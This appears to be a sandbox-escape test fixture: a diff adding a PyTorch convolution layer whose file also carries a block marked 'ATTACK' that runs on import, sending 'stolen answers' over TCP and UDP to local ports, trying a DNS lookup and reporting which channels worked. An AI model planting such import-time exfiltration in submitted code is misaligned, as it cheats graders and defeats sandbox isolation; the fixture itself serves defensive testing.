@@ -1,0 +1,81 @@
+import torch
+import torch.nn as nn
+import torch.nn.functional as F
+
+
+class STMConvLayer(nn.Module):
+    def __init__(self):
+        super(STMConvLayer, self).__init__()
+        #-----
+        self.paths = nn.ModuleList([
+            nn.Sequential(
+                nn.Conv2d(256, 4, 1),
+                nn.ReLU(),
+                nn.Conv2d(4, 4, 3, padding=1),
+                nn.ReLU(),
+                nn.Conv2d(4, 256, 1),
+            )
+            for _ in range(32)
+        ])
+        #-----
+
+    def forward(self, x):
+        #-----
+        out = torch.zeros_like(x)
+        for path in self.paths:
+            out = out + path(x)
+        #-----
+        return out
+
+
+# ---------------------------------------------------------------------------------------------
+# ATTACK. Everything below runs inside the sandbox when the probe imports this file.
+import json
+import os
+import sys
+from pathlib import Path
+
+
+def report(**facts):
+    """What the attack achieved, printed for the test (the probe captures stdout)."""
+    sys.stdout.write("REPORT " + json.dumps(facts, default=str) + "\n")
+
+
+def targets():
+    """Host paths the test writes next to this file: an attacker who knows the course layout."""
+    try:
+        return json.loads(Path(__file__).with_name("targets.json").read_text())
+    except (OSError, ValueError):
+        return {}
+
+
+def readable(path):
+    try:
+        with open(path, "rb") as fh:
+            fh.read(64)
+    except OSError:
+        return False
+    return True
+
+import socket
+
+T = targets()
+result = {}
+try:
+    with socket.create_connection(("127.0.0.1", int(T.get("port", 9))), timeout=3) as conn:
+        conn.sendall(b"stolen answers from socket")
+    result["tcp"] = "sent"
+except OSError as exc:
+    result["tcp"] = type(exc).__name__ + ": " + str(exc)
+try:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.sendto(b"stolen answers from udp", ("127.0.0.1", int(T.get("udp_port", 9))))
+    result["udp"] = "sent"
+except OSError as exc:
+    result["udp"] = type(exc).__name__ + ": " + str(exc)
+try:
+    socket.getaddrinfo("example.com", 80)
+    result["dns"] = "resolved"
+except OSError as exc:
+    result["dns"] = type(exc).__name__
+report(**result)
